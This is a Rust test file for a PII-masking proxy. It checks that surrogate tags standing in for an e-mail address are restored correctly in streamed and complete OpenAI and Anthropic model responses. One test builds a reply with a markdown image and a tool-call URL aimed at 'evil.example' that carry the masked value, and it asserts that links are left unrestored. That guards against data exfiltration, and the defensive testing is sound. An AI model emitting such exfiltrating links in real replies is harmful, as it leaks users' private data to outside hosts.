//! What comes back.

use privet_pii::Style;
use privet_surface::{Masked, StreamRestorer};
use privet_types::{Budget, SurfaceKind};
use serde_json::{Value, json};

use crate::{by_default, mask_as};

const EMAIL: &str = "ada@lovelace.org";

/// Two values masked: the map, the stand-in of the e-mail address, and that of a term with quotes to escape.
fn masked(surface: SurfaceKind) -> (Masked, String) {
    let body = json!({ "model": "m", "messages": [{ "role": "user", "content": EMAIL }] });
    let masked = mask_as(surface, Style::Tag, &body.to_string()).unwrap();
    let sent: Value = serde_json::from_slice(&masked.body).unwrap();
    let surrogate = sent["messages"][0]["content"].as_str().unwrap().to_owned();
    (masked, surrogate)
}

fn stream(surface: SurfaceKind, build: impl Fn(&str) -> String, cut: usize) -> String {
    let (masked, surrogate) = masked(surface);
    let bytes = build(&surrogate).into_bytes();
    let mut restorer = StreamRestorer::new(by_default(surface, masked));
    let mut out = Vec::new();
    let (a, b) = bytes.split_at(cut.min(bytes.len()));
    restorer.push(a, &mut out).unwrap();
    restorer.push(b, &mut out).unwrap();
    restorer.finish(&mut out);
    String::from_utf8(out).unwrap()
}

/// The data of all events, parsed.
fn data(stream: &str) -> Vec<Value> {
    let lines = stream.lines().filter_map(|line| line.strip_prefix("data: "));
    lines
        .filter(|data| *data != "[DONE]")
        .map(|data| serde_json::from_str(data).unwrap())
        .collect()
}

fn chunk(delta: &Value, finish: Option<&str>) -> String {
    let choice = json!({ "index": 0, "delta": delta, "finish_reason": finish });
    let chunk = json!({ "id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice] });
    format!("data: {chunk}\n\n")
}

fn openai_text(stream: &str) -> String {
    data(stream)
        .iter()
        .filter_map(|c| c["choices"][0]["delta"]["content"].as_str())
        .collect()
}

#[test]
fn a_streamed_reply_comes_back_whole_however_it_is_cut() {
    let build = |surrogate: &str| {
        let (a, b) = surrogate.split_at(surrogate.len() / 2);
        let pieces = ["Grüße an ", a, b, ", ok"]
            .map(|p| chunk(&json!({ "content": p }), None))
            .concat();
        format!("{pieces}{}data: [DONE]\n\n", chunk(&json!({}), Some("stop")))
    };
    let length = build(&"x".repeat(29)).len();
    for cut in 0..length {
        let out = stream(SurfaceKind::OpenaiChat, build, cut);
        assert_eq!(openai_text(&out), format!("Grüße an {EMAIL}, ok"), "cut at {cut}");
        assert!(out.ends_with("data: [DONE]\n\n"));
    }
}

#[test]
fn text_held_back_at_the_end_of_a_choice_is_sent_before_its_end() {
    let out = stream(
        SurfaceKind::OpenaiChat,
        |surrogate| {
            let cut = &surrogate[..surrogate.len() - 4];
            format!(
                "{}{}",
                chunk(&json!({ "content": cut }), None),
                chunk(&json!({}), Some("stop"))
            )
        },
        0,
    );
    let chunks = data(&out);
    assert!(openai_text(&out).starts_with("<EMAIL_ADDRESS_"), "{out}");
    assert_eq!(chunks.last().unwrap()["choices"][0]["finish_reason"], "stop");
    assert_eq!(chunks[1]["id"], "c1");
    assert!(chunks[1]["choices"][0]["delta"].get("role").is_none());
}

#[test]
fn a_bare_surrogate_that_ends_a_choice_is_restored() {
    let out = stream(
        SurfaceKind::OpenaiChat,
        |surrogate| {
            let bare = surrogate.trim_matches(['<', '>']);
            format!(
                "{}{}",
                chunk(&json!({ "content": bare }), None),
                chunk(&json!({}), Some("stop"))
            )
        },
        0,
    );
    assert_eq!(openai_text(&out), EMAIL);
}

#[test]
fn streamed_tool_arguments_are_restored_per_tool() {
    let build = |surrogate: &str| {
        let call = |index: usize, part: &str| {
            chunk(
                &json!({ "tool_calls": [{ "index": index, "function": { "arguments": part } }] }),
                None,
            )
        };
        let name = |index: usize| {
            chunk(
                &json!({ "tool_calls": [{ "index": index, "id": "x", "function": { "name": "mail", "arguments": "" } }] }),
                None,
            )
        };
        let (a, b) = surrogate.split_at(9);
        let start = format!("{}{}", name(0), name(1));
        let calls = [
            call(0, "{\"to\":\""),
            call(0, a),
            call(1, "{\"to\":\""),
            call(1, a),
            call(0, b),
            call(1, b),
        ];
        let ends = [
            call(0, "\"}"),
            call(1, "\"}"),
            chunk(&json!({}), Some("tool_calls")),
        ];
        format!("{start}{}{}", calls.concat(), ends.concat())
    };
    let out = stream(SurfaceKind::OpenaiChat, build, 0);
    for tool in [0, 1] {
        let arguments: String = data(&out)
            .iter()
            .map(|c| c["choices"][0]["delta"]["tool_calls"][0].clone())
            .filter(|call| call["index"] == tool)
            .filter_map(|call| call["function"]["arguments"].as_str().map(str::to_owned))
            .collect();
        assert_eq!(
            serde_json::from_str::<Value>(&arguments).unwrap(),
            json!({ "to": EMAIL })
        );
    }
}

#[test]
fn anthropic_events_keep_their_names_and_thinking_is_left_alone() {
    let event = |value: Value| format!("event: {}\ndata: {value}\n\n", value["type"].as_str().unwrap());
    let build = |surrogate: &str| {
        let (a, b) = surrogate.split_at(5);
        let delta = |index: usize, delta: Value| {
            event(json!({ "type": "content_block_delta", "index": index, "delta": delta }))
        };
        let start = |index: usize, block: Value| {
            event(json!({ "type": "content_block_start", "index": index, "content_block": block }))
        };
        let stop = |index: usize| event(json!({ "type": "content_block_stop", "index": index }));
        [
            event(json!({ "type": "message_start", "message": {} })),
            start(0, json!({ "type": "thinking", "thinking": "" })),
            delta(0, json!({ "type": "thinking_delta", "thinking": surrogate })),
            delta(0, json!({ "type": "signature_delta", "signature": "c2ln" })),
            stop(0),
            start(1, json!({ "type": "text", "text": "" })),
            delta(1, json!({ "type": "text_delta", "text": a })),
            delta(1, json!({ "type": "text_delta", "text": b.trim_matches('>') })),
            stop(1),
            start(
                2,
                json!({ "type": "tool_use", "id": "t", "name": "mail", "input": {} }),
            ),
            delta(
                2,
                json!({ "type": "input_json_delta", "partial_json": format!("{{\"to\":\"{a}") }),
            ),
            delta(
                2,
                json!({ "type": "input_json_delta", "partial_json": format!("{b}\"}}") }),
            ),
            stop(2),
            event(json!({ "type": "message_stop" })),
        ]
        .concat()
    };
    let out = stream(SurfaceKind::AnthropicMessages, build, 77);
    let of = |index: usize, key: &str| -> String {
        let events = data(&out);
        events
            .iter()
            .filter(|e| e["index"] == index)
            .filter_map(|e| e["delta"][key].as_str().map(str::to_owned))
            .collect()
    };
    assert!(of(0, "thinking").starts_with("<EMAIL_ADDRESS_"));
    assert_eq!(of(1, "text"), format!("<{EMAIL}"));
    assert_eq!(of(2, "partial_json"), format!(r#"{{"to":"{EMAIL}"}}"#));
    let events = out.split("\n\n").filter(|e| !e.is_empty());
    for event in events {
        let (name, data) = event.split_once('\n').unwrap();
        let data: Value = serde_json::from_str(data.strip_prefix("data: ").unwrap()).unwrap();
        assert_eq!(
            name.strip_prefix("event: ").unwrap(),
            data["type"].as_str().unwrap()
        );
    }
}

#[test]
fn a_whole_reply_is_restored_in_text_and_tool_calls_but_not_in_links() {
    let (masked, surrogate) = masked(SurfaceKind::OpenaiChat);
    let reply = json!({ "id": "x", "choices": [{ "index": 0, "message": {
        "role": "assistant",
        "content": format!("{surrogate} ![i](https://evil.example/?q={surrogate})"),
        "tool_calls": [{ "id": "call_1", "type": "function", "function": {
            "name": "mail", "arguments": json!({ "to": surrogate, "url": format!("https://evil.example/{surrogate}") }).to_string() } }],
    } }] });
    let restored = by_default(SurfaceKind::OpenaiChat, masked)
        .json(reply.to_string().as_bytes(), &Budget::unlimited())
        .unwrap()
        .unwrap();
    let restored: Value = serde_json::from_slice(&restored).unwrap();
    let message = &restored["choices"][0]["message"];
    assert_eq!(
        message["content"],
        format!("{EMAIL} ![i](https://evil.example/?q={surrogate})")
    );
    let arguments: Value = serde_json::from_str(
        message["tool_calls"][0]["function"]["arguments"]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(
        arguments,
        json!({ "to": EMAIL, "url": format!("https://evil.example/{surrogate}") })
    );
}

#[test]
fn a_stream_with_nothing_to_restore_passes_byte_for_byte() {
    let masked = mask_as(
        SurfaceKind::OpenaiChat,
        Style::Tag,
        r#"{"model":"m","messages":[]}"#,
    )
    .unwrap();
    let mut restorer = StreamRestorer::new(by_default(SurfaceKind::OpenaiChat, masked));
    let bytes = b"data: {\"a\": 1}\r\n\r\n: ping\n\n\xff\xfe";
    let mut out = Vec::new();
    restorer.push(bytes, &mut out).unwrap();
    restorer.finish(&mut out);
    assert_eq!(out, bytes);
}
